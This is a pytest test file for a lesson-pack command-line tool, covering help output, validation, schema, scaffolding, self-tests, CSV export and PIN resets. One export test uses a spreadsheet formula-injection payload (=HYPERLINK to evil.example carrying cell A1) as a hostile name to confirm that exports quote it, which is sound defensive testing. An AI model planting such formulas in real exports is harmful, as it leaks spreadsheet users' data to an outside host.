"""`curriculum ...`: help everywhere, validate, schema, new, selftest, export, the entry point."""

from __future__ import annotations

import argparse
import csv
import io
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from curriculum import cli
from curriculum.packs import load_catalogue
from curriculum.store import people as P
from curriculum.store import progress as R
from curriculum.store import session

BAD = Path(__file__).resolve().parent / "packs" / "bad"
GOOD = Path(__file__).resolve().parent / "packs" / "good"
REPO = Path(__file__).resolve().parents[1]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def commands(parser: argparse.ArgumentParser, prefix: tuple[str, ...] = ()
             ) -> list[tuple[tuple[str, ...], str, argparse.ArgumentParser]]:
    "Every command and subcommand: (words, its one-line help, its parser)."
    found = []
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            helps = {a.dest: a.help or "" for a in action._choices_actions}
            for name, sub in action.choices.items():
                found.append(((*prefix, name), helps.get(name, ""), sub))
                found += commands(sub, (*prefix, name))
    return found


COMMANDS = commands(cli.parser())


def test_the_commands_are_all_found() -> None:
    names = {words[0] for words, _, _ in COMMANDS}
    assert {"validate", "schema", "new", "selftest", "export", "demo"} <= names


@pytest.mark.parametrize(("words", "summary", "sub"), COMMANDS,
                         ids=[" ".join(w) for w, _, _ in COMMANDS])
def test_every_command_has_help(capsys: pytest.CaptureFixture[str], words: tuple[str, ...],
                                summary: str, sub: argparse.ArgumentParser) -> None:
    assert summary.strip(), f"'{' '.join(words)}' has no help= in the command list"
    assert sub.description, f"'{' '.join(words)}' has no description="
    with pytest.raises(SystemExit) as exit_:
        cli.main([*words, "--help"])
    assert exit_.value.code == 0
    out = " ".join(capsys.readouterr().out.split())
    assert out.startswith(f"usage: curriculum {' '.join(words)}")
    assert " ".join(sub.description.split()) in out  # it says what the command is for


def test_the_main_help_lists_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        cli.main(["--help"])
    assert exit_.value.code == 0
    out = capsys.readouterr().out
    for words, summary, _ in COMMANDS:
        if len(words) == 1:
            assert re.search(rf"^\s+{words[0]}\s+{re.escape(summary[:20])}", out, re.M)


def test_no_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        cli.main([])
    assert exit_.value.code == 2
    assert "usage: curriculum" in capsys.readouterr().err


# --- validate ----------------------------------------------------------------------------

def test_validate_good_packs(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "validate", str(GOOD))
    assert (code, out) == (0, "")
    assert "2 pack(s), 3 lesson(s) ready: 0 error(s), 0 warning(s)" in err


def test_validate_a_bad_pack(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "validate", str(BAD / "unknown-key-step"))
    assert code == 1
    assert out == (f"{BAD}/unknown-key-step/first.yaml:16:5: error: unknown key 'hint' "
                   "(did you mean 'hints'?)\n")
    assert "1 error(s), 0 warning(s)" in err


def test_warnings_are_printed_but_do_not_fail(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "validate", str(BAD / "hintless-step"))
    assert code == 0
    assert ": warning: step 'pick' is checked but has no hints" in out


def test_warnings_are_printed_beside_errors(capsys: pytest.CaptureFixture[str],
                                           tmp_path: Path) -> None:
    for case in ("hintless-step", "bad-regex"):
        shutil.copytree(BAD / case, tmp_path / case)
    code, out, err = run(capsys, "validate", str(tmp_path))
    assert code == 1
    assert [line.split(": ")[1] for line in out.splitlines()] == ["error", "warning"]
    assert "1 error(s), 1 warning(s)" in err
    code, out, _ = run(capsys, "validate", "--errors-only", str(tmp_path))
    assert code == 1
    assert [line.split(": ")[1] for line in out.splitlines()] == ["error"]


def test_validate_reads_curriculum_lessons(capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CURRICULUM_LESSONS", f"{BAD / 'bad-topic'}:{GOOD}")
    code, _, err = run(capsys, "validate")
    assert code == 1
    assert "2 pack(s), 3 lesson(s) ready: 1 error(s)" in err


def test_validate_a_missing_folder(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = run(capsys, "validate", str(tmp_path / "nowhere"))
    assert code == 1
    assert "nowhere: no such folder" in err


# --- schema ------------------------------------------------------------------------------

STALE = ("the committed JSON Schema is stale: run `curriculum schema --write docs/schema` "
         "and commit the result")


@pytest.mark.parametrize("which", ["pack", "lesson"])
def test_the_committed_schema_is_up_to_date(capsys: pytest.CaptureFixture[str],
                                            which: str) -> None:
    code, out, _ = run(capsys, "schema", which)
    assert code == 0
    committed = (REPO / "docs" / "schema" / f"{which}.schema.json").read_text(encoding="utf-8")
    assert out == committed, STALE


def test_schema_write(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, _ = run(capsys, "schema", "--write", str(tmp_path / "schema"))
    assert code == 0
    assert sorted(p.name for p in (tmp_path / "schema").iterdir()) == [
        "lesson.schema.json", "pack.schema.json"]
    for name in ("lesson", "pack"):
        assert (tmp_path / "schema" / f"{name}.schema.json").read_text(encoding="utf-8") == (
            REPO / "docs" / "schema" / f"{name}.schema.json").read_text(encoding="utf-8"), STALE


# --- new ---------------------------------------------------------------------------------

def assert_clean(folder: Path) -> None:
    catalogue = load_catalogue([folder])
    assert [str(p) for p in catalogue.problems] == []
    loaded = catalogue.packs[folder.name]
    assert list(loaded.lessons) == list(loaded.pack.lessons)


@pytest.mark.parametrize(("lang", "first", "language"), [("en", "first-lesson", "en"),
                                                         ("fr", "premiere-lecon", "fr")])
def test_new_pack_and_lesson(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                             monkeypatch: pytest.MonkeyPatch, lang: str, first: str,
                             language: str) -> None:
    monkeypatch.chdir(REPO)  # where docs/schema is, for the editor's $schema comment
    code, out, _ = run(capsys, "new", "pack", "my-pack", "--lang", lang, "--dir", str(tmp_path),
                       "--title", "My pack: #1, isn't it?")
    folder = tmp_path / "my-pack"
    assert code == 0
    assert out == f"created {folder / 'pack.yaml'} and {folder / (first + '.yaml')}\n"
    assert_clean(folder)
    pack = load_catalogue([folder]).packs["my-pack"].pack
    assert (pack.title, pack.language, pack.lessons) == ("My pack: #1, isn't it?", language,
                                                         [first])

    code, out, _ = run(capsys, "new", "lesson", "second-one", "--lang", lang, "--dir",
                       str(folder), "--title", 'Say "hi": a lesson')
    assert (code, out) == (0, f"created {folder / 'second-one.yaml'}\n")
    assert_clean(folder)
    loaded = load_catalogue([folder]).packs["my-pack"]
    assert loaded.pack.lessons == [first, "second-one"]
    assert loaded.lessons["second-one"].title == 'Say "hi": a lesson'

    comment = (folder / "second-one.yaml").read_text(encoding="utf-8").splitlines()[0]
    schema = comment.removeprefix("# yaml-language-server: $schema=")
    assert schema != comment
    assert (folder / schema).resolve() == REPO / "docs" / "schema" / "lesson.schema.json"


def test_new_lesson_in_a_block_list(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    shutil.copytree(GOOD / "tour", tmp_path / "tour")
    code, _, _ = run(capsys, "new", "lesson", "extra", "--dir", str(tmp_path / "tour"))
    assert code == 0
    assert_clean(tmp_path / "tour")
    assert load_catalogue([tmp_path]).packs["tour"].pack.lessons == [
        "basics", "practice", "extra"]


@pytest.mark.parametrize(
    ("argv", "message"),
    [(["new", "pack", "Bad_Id"], "'Bad_Id' is not a valid id"),
     (["new", "pack", "tour"], "already exists"),
     (["new", "lesson", "basics"], "already exists"),
     (["new", "lesson", "x", "--dir", "."], "is not a pack folder")],
)
def test_new_refuses(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                     monkeypatch: pytest.MonkeyPatch, argv: list[str], message: str) -> None:
    shutil.copytree(GOOD / "tour", tmp_path / "tour")
    monkeypatch.chdir(tmp_path)
    if argv[1] == "lesson" and "--dir" not in argv:
        argv = [*argv, "--dir", "tour"]
    elif argv[1] == "pack":
        argv = [*argv, "--dir", "."]
    code, _, err = run(capsys, *argv)
    assert code == 1
    assert err.startswith("error: ") and message in err


# --- selftest ----------------------------------------------------------------------------

def test_selftest_passes_on_the_bundled_lessons(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "selftest", str(REPO / "lessons"))
    assert code == 0, out
    assert re.search(r"^\d+ pack\(s\), [1-9]\d* checked step\(s\), \d+ check\(s\): "
                     r"0 failure\(s\)$", out, re.M)


def test_selftest_passes_on_the_good_packs(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "selftest", str(GOOD))
    assert (code, out) == (0, "2 pack(s), 9 checked step(s), 38 check(s): 0 failure(s)\n")


def test_selftest_by_pack_id(capsys: pytest.CaptureFixture[str],
                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CURRICULUM_LESSONS", str(GOOD))
    code, out, _ = run(capsys, "selftest", "visite")
    assert (code, out) == (0, "1 pack(s), 2 checked step(s), 8 check(s): 0 failure(s)\n")
    code, _, err = run(capsys, "selftest", "nope")
    assert code == 1
    assert "no pack nope (known: tour, visite)" in err


BROKEN_LESSON = """\
id: broken
title: A broken step
goal: You can type a postcode.
steps:
  - id: postcode
    kind: text
    prompt: Type your postcode (5 digits).
    accept:
      - regex: "^[0-9]{5}$"
    hints: [Five digits.]
    solution: "**1234**"
"""


def test_selftest_fails_on_a_step_whose_solution_does_not_pass(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    folder = tmp_path / "broken-pack"
    folder.mkdir()
    (folder / "pack.yaml").write_text("format: 1\nid: broken-pack\ntitle: Broken\nlanguage: en\n"
                                      "topic: other\nlessons: [broken]\n", encoding="utf-8")
    (folder / "broken.yaml").write_text(BROKEN_LESSON, encoding="utf-8")
    assert [str(p) for p in load_catalogue([folder]).problems] == []  # valid, yet wrong
    code, out, _ = run(capsys, "selftest", str(folder))
    assert code == 1
    assert out.splitlines()[0] == (
        "FAIL broken-pack/broken#postcode: no answer derived from 'accept' or 'solution' "
        "passes: make 'solution' the expected answer")
    assert out.splitlines()[-1].endswith(": 1 failure(s)")
    (folder / "broken.yaml").write_text(BROKEN_LESSON.replace("1234", "12345"), encoding="utf-8")
    assert run(capsys, "selftest", str(folder))[0] == 0


# --- export ------------------------------------------------------------------------------

@pytest.fixture
def progress_db(tmp_path: Path) -> Path:
    path = tmp_path / "progress.db"
    with session(path) as db:
        ann = P.create_person(db, "Ann, \"the\" senior", "senior")
        run_ = R.open_run(db, ann.id, "email-basics", "first-email", "pair")
        for i, outcome in enumerate(["wrong", "wrong", "correct"]):
            R.record_attempt(db, R.Attempt(run_.id, ann.id, "email-basics", "first-email",
                                           "which-box", f"answer {i}, with a comma", outcome,
                                           "options", i, False, None, 100 * i))
    return path


def test_export_csv_to_stdout(capsys: pytest.CaptureFixture[str], progress_db: Path) -> None:
    code, out, _ = run(capsys, "export", "--db", str(progress_db))
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == list(R.EXPORT_COLUMNS)
    assert len(rows) == 1 + 3
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["outcome"] for r in body] == ["wrong", "wrong", "correct"]
    assert {r["person"] for r in body} == {"Ann, \"the\" senior"}
    assert body[2]["answer"] == '"answer 2, with a comma"'
    assert [r["hints_used"] for r in body] == ["0", "1", "2"]


def test_export_csv_to_a_file(capsys: pytest.CaptureFixture[str], progress_db: Path,
                              tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    code, out, err = run(capsys, "export", "--db", str(progress_db), "--out", str(target))
    assert (code, out) == (0, "")
    assert f"wrote 3 attempt(s) to {target}" in err
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert rows[0] == list(R.EXPORT_COLUMNS) and len(rows) == 4


@pytest.mark.parametrize("what", ["attempts", "pairs", "sessions", "feedback"])
def test_every_export_quotes_text_a_spreadsheet_would_run(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, what: str) -> None:
    "Names and answers like =HYPERLINK(...) come out as text in every export, as on the page."
    from curriculum.store import pairs as PR

    path = tmp_path / "hostile.db"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with session(path) as db:
        senior = P.create_person(db, evil, "senior")
        junior = P.create_person(db, "+Léa", "junior")
        run_ = R.open_run(db, senior.id, "email-basics", "first-email", "pair")
        R.record_attempt(db, R.Attempt(run_.id, senior.id, "email-basics", "first-email",
                                       "which-box", "@SUM(1+1)", "wrong", "options", 0,
                                       False, None, 100))
        PR.pair_by_hand(db, senior.id, junior.id)
    code, out, _ = run(capsys, "export", "--what", what, "--db", str(path))
    assert code == 0
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    if what in ("attempts", "pairs"):
        assert "'" + evil in cells


def test_export_an_empty_database(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CURRICULUM_DB", str(tmp_path / "env.db"))
    code, out, _ = run(capsys, "export")
    assert code == 0
    assert out.splitlines() == [",".join(R.EXPORT_COLUMNS)]
    assert (tmp_path / "env.db").exists()


# --- the real entry point ----------------------------------------------------------------

def test_the_console_script_works() -> None:
    script = shutil.which("curriculum", path=str(Path(sys.executable).parent))
    assert script, "the console script is not installed: pip install -e ."
    done = subprocess.run([script, "validate", str(GOOD)], capture_output=True, text=True,
                          timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "2 pack(s), 3 lesson(s) ready: 0 error(s), 0 warning(s)" in done.stderr
    bad = subprocess.run([script, "validate", str(BAD / "bad-topic")], capture_output=True,
                         text=True, timeout=120, check=False)
    assert bad.returncode == 1
    assert "bad-topic/pack.yaml:5:8: error: 'topic' cannot be 'emails'" in bad.stdout


def test_selftest_fails_when_a_pack_has_errors_it_could_not_test(capsys) -> None:
    bad = Path(__file__).parent / "packs" / "bad" / "unknown-step-kind"
    assert cli.main(["selftest", str(bad)]) == 1
    out = capsys.readouterr().out
    assert "NOT TESTED" in out and "unknown step kind 'choise'" in out
    assert "1 error(s) kept lessons out of the test" in out


def test_pin_resets_a_forgotten_coordinator_pin(tmp_path: Path, capsys) -> None:
    db_file = tmp_path / "p.db"
    with session(db_file) as db:
        claire = P.ensure_coordinator(db, "Claire Bernard", "1234", "1234")
    assert cli.main(["pin", "claire bernard", "--pin", "98765", "--db", str(db_file)]) == 0
    assert "the PIN of Claire Bernard is set" in capsys.readouterr().out
    with session(db_file) as db:
        assert P.check_pin(db, claire.id, "98765").ok
        assert not P.check_pin(db, claire.id, "1234").ok


def test_pin_names_the_people_when_the_name_is_unknown(tmp_path: Path, capsys) -> None:
    db_file = tmp_path / "p.db"
    with session(db_file) as db:
        P.create_person(db, "Léa", "junior")
    assert cli.main(["pin", "Lea M", "--pin", "1234", "--db", str(db_file)]) == 1
    assert "no person is called 'Lea M' (people: Léa)" in capsys.readouterr().err
